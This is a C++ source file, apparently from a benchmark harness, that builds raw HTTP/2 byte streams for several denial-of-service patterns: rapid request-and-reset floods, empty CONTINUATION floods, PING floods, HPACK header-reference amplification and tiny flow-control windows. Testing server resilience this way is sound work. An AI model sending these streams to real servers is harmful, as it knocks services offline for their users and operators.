#include "http2_attacks.hpp"

#include <cstddef>
#include <cstdint>
#include <string_view>

namespace bench {

namespace {

using namespace std::string_literals;

enum type : char {
    headers = 1,
    rst_stream = 3,
    settings = 4,
    ping = 6,
    window_update = 8,
    continuation = 9
};

constexpr char no_flags = 0;
constexpr char end_stream = 1;
constexpr char end_headers = 4;

// HPACK (RFC 7541): GET, http, authority "h", and the path.
const std::string fields_of_small = "\x82\x86\x41\x01h\x84";
const std::string fields_of_large = "\x82\x86\x41\x01h\x04\x06/large";

std::string number(std::uint32_t n)
{
    return {
        static_cast<char>(n >> 24),
        static_cast<char>(n >> 16),
        static_cast<char>(n >> 8),
        static_cast<char>(n)};
}

std::string frame(type kind, char flags, std::uint32_t stream, std::string_view payload)
{
    return number(static_cast<std::uint32_t>(payload.size())).substr(1) + static_cast<char>(kind) +
           flags + number(stream).append(payload);
}

std::string beginning(std::string_view settings_of_client = {})
{
    return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(settings, no_flags, 0, settings_of_client);
}

std::uint32_t stream(int nth)
{
    return 2 * static_cast<std::uint32_t>(nth) + 1;
}

}  // namespace

std::string requests_and_resets(int count)
{
    std::string result = beginning();
    for (int i = 0; i < count; ++i) {
        result += frame(headers, end_stream | end_headers, stream(i), fields_of_small);
        result += frame(rst_stream, no_flags, stream(i), number(8));
    }
    return result;
}

std::string empty_continuations(int count)
{
    std::string result = beginning() + frame(headers, end_stream, 1, fields_of_small);
    for (int i = 0; i < count; ++i) {
        result += frame(continuation, no_flags, 1, "");
    }
    return result;
}

std::string pings(int count)
{
    std::string result = beginning();
    for (int i = 0; i < count; ++i) {
        result += frame(ping, no_flags, 0, "01234567");
    }
    return result;
}

std::string references_to_a_long_field(int count)
{
    // Indexed as the newest of the dynamic table: \x40, a name of three bytes, a value of 3,000.
    const std::string field = "\x40\x03x-a\x7f\xb9\x16"s + std::string(3000, 'a');
    const std::string references(static_cast<std::size_t>(count), '\xbe');
    return beginning() + frame(headers, end_stream | end_headers, 1, fields_of_small + field) +
           frame(headers, end_stream | end_headers, 3, fields_of_small.substr(0, 2) + references);
}

std::string requests_with_small_windows(int count)
{
    std::string result = beginning("\0\4"s + number(1));  // SETTINGS_INITIAL_WINDOW_SIZE
    for (int i = 0; i < count; ++i) {
        result += frame(headers, end_stream | end_headers, stream(i), fields_of_large);
    }
    return result;
}

std::string one_byte_more()
{
    return frame(window_update, no_flags, 0, number(1)) +
           frame(window_update, no_flags, 1, number(1));
}

}  // namespace bench
